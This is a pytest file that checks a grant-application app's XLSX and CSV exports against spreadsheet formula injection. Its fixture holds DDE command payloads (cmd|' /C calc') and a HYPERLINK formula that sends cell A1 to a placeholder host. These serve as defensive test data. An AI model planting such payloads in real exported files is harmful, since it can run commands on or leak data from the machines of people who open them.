"""Words people typed never become spreadsheet formulas: the staff exports (XLSX and CSV)
and the open-data CSV files carry an applicant's text as text, whatever it starts with."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from initiatives.applications.models import Application
from initiatives.core.spreadsheet import neutralise

SPECIALIST = "specialist@orozbekov.example"
TITLE = '=HYPERLINK("http://x/?"&A1,"Click")'
APPLICANT = "=cmd|' /C calc'!A0"
ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
VILLAGE = "+1+cmd|' /C calc'!A0"
HOSTILE = (TITLE, APPLICANT, ORGANISATION, VILLAGE)


@pytest.fixture
def hostile(build, db):
    """A competition past its intake whose first application is all formulas."""
    run = build("applications_closed", proposals=2)
    a = run.apps[0][0]
    db.session.execute(
        Application.__table__.update()
        .where(Application.id == a.id)
        .values(
            applicant_kind="group",
            title=TITLE,
            applicant_name=APPLICANT,
            organisation_name=ORGANISATION,
            village=VILLAGE,
        )
    )
    db.session.commit()
    return run


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Папа, мама и я", "Папа, мама и я"),
        ("-150.00", "-150.00"),  # a negative amount stays a number
        ("+3", "'+3"),  # but a number nobody writes with a plus is text
        ("", ""),
    ],
)
def test_the_neutraliser(typed, written):
    assert neutralise(typed) == written


def test_the_workbook_keeps_typed_words_as_text(hostile, client, login, db):
    login(SPECIALIST)
    response = client.get(f"/competitions/{hostile.c.id}/export/all.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).worksheets[0]  # the applications
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value in HOSTILE}
    assert set(cells) == set(HOSTILE)  # the words as they were typed, not a formula
    for value, cell in cells.items():
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix, value  # and still text when someone edits the cell
    numbers = [c for c in ws[2] if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)  # amounts stay numbers


def test_the_csv_exports_neutralise_formulas(hostile, client, login, db):
    login(SPECIALIST)
    staff = rows_of(client.get(f"/competitions/{hostile.c.id}/export/applications.csv").data)
    public = rows_of(client.get("/api/v1/applications.csv").data)
    for rows in (staff, public):
        cells = [v for row in rows[1:] for v in row]
        assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")], rows
        assert f"'{TITLE}" in cells and f"'{VILLAGE}" in cells and f"'{ORGANISATION}" in cells
    assert f"'{APPLICANT}" in [v for row in staff for v in row]  # a name only the office reads
    assert Decimal(public[1][public[0].index("requested")]) > 0  # amounts stay numbers
